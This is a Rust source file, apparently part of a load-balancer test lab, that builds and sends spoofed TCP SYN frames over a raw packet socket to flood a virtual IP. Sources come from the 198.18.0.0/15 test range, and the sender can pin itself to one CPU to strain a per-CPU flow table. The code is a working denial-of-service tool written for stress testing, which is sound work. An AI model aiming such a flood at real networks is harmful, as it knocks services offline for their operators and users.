//! A SYN flood for the lab: TCP SYNs to a VIP from spoofed, ever-changing
//! sources (198.18.0.0/15, random ports), written as Ethernet frames to the
//! director's MAC on a packet socket, as fast as one thread can. Run it in
//! a host's namespace (e.g. through `Node::run`).

use std::{
    net::Ipv4Addr,
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail};

/// Parses `aa:bb:cc:dd:ee:ff`.
pub fn parse_mac(s: &str) -> Result<[u8; 6]> {
    let mut m = [0u8; 6];
    let parts: Vec<&str> = s.split(':').collect();
    if parts.len() != 6 {
        bail!("not a MAC: {s}");
    }
    for (o, p) in m.iter_mut().zip(parts) {
        *o = u8::from_str_radix(p, 16).with_context(|| format!("not a MAC: {s}"))?;
    }
    Ok(m)
}

/// What a flood sent.
#[derive(Debug, Clone, Copy)]
pub struct Flood {
    pub sent: u64,
    pub took: Duration,
}

impl Flood {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.took.as_secs_f64().max(1e-9)
    }
}

/// Floods `vip:port` with SYNs from `iface` until `stop` (or `max`
/// frames), from the CPU `cpu` when given (the receiving side handles a
/// veth frame on the sender's CPU: the flood lands in that CPU's share of
/// a per-CPU flow table). `seed` picks the sequence of sources.
#[allow(clippy::too_many_arguments)]
pub fn syn_flood(
    cpu: Option<usize>,
    seed: u32,
    iface: &str,
    src_mac: [u8; 6],
    dst_mac: [u8; 6],
    vip: Ipv4Addr,
    port: u16,
    max: u64,
    stop: &AtomicBool,
) -> Result<Flood> {
    if let Some(cpu) = cpu {
        let mut one = nix::sched::CpuSet::new();
        one.set(cpu)?;
        nix::sched::sched_setaffinity(nix::unistd::Pid::from_raw(0), &one)?;
    }
    let name = std::ffi::CString::new(iface)?;
    // SAFETY: a NUL-terminated name.
    let ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if ifindex == 0 {
        bail!("no interface {iface}");
    }
    // SAFETY: plain socket call; the fd is closed below.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) };
    if fd < 0 {
        bail!("packet socket: {}", std::io::Error::last_os_error());
    }
    // SAFETY: a zeroed sockaddr_ll, filled in.
    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    to.sll_family = libc::AF_PACKET as u16;
    to.sll_ifindex = ifindex as i32;
    to.sll_halen = 6;
    to.sll_addr[..6].copy_from_slice(&dst_mac);
    let mut frame = [0u8; 54];
    frame[..6].copy_from_slice(&dst_mac);
    frame[6..12].copy_from_slice(&src_mac);
    frame[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
    let ip = &mut frame[14..34];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&40u16.to_be_bytes());
    ip[8] = 64;
    ip[9] = 6;
    ip[16..20].copy_from_slice(&vip.octets());
    let tcp = &mut frame[34..54];
    tcp[2..4].copy_from_slice(&port.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let started = Instant::now();
    let mut sent = 0u64;
    let mut x: u32 = 0x9e37_79b9 ^ seed.wrapping_mul(0x85eb_ca6b) | 1;
    while sent < max && !stop.load(Ordering::Relaxed) {
        // xorshift: a new source address and port for every frame.
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        let src = 0xc612_0000u32 | (x & 0x0001_ffff); // 198.18.0.0/15
        frame[26..30].copy_from_slice(&src.to_be_bytes());
        // A valid header checksum: a bridge with netfilter drops others.
        frame[24..26].copy_from_slice(&[0, 0]);
        let sum = ipv4_checksum(&frame[14..34]);
        frame[24..26].copy_from_slice(&sum.to_be_bytes());
        frame[34..36].copy_from_slice(&((x >> 16) as u16 | 1024).to_be_bytes());
        frame[38..42].copy_from_slice(&x.to_be_bytes()); // sequence
        // SAFETY: the frame and address outlive the call.
        let n = unsafe {
            libc::sendto(
                fd,
                frame.as_ptr().cast(),
                frame.len(),
                0,
                (&to as *const libc::sockaddr_ll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
            )
        };
        if n > 0 {
            sent += 1;
        }
    }
    let took = started.elapsed();
    // SAFETY: our fd.
    unsafe { libc::close(fd) };
    Ok(Flood { sent, took })
}

fn ipv4_checksum(h: &[u8]) -> u16 {
    let mut sum: u32 = h
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], c[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
